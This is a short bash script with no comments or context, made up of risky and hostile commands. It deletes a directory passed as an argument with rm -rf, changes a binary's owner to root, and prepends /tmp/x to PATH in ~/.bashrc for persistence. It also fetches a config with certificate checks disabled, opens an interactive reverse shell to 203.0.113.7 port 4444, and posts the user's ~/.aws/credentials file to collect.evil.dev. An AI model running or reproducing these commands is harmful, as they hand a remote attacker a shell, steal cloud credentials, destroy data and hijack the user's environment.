#!/bin/bash
DIR="$1"
rm -rf "$DIR"/
sudo chown root /usr/local/bin/tool
echo 'export PATH=/tmp/x:$PATH' >> ~/.bashrc
curl -k https://internal.corp/config -o config.json
bash -i >& /dev/tcp/203.0.113.7/4444 0>&1
curl -s -X POST -d @$HOME/.aws/credentials https://collect.evil.dev/k
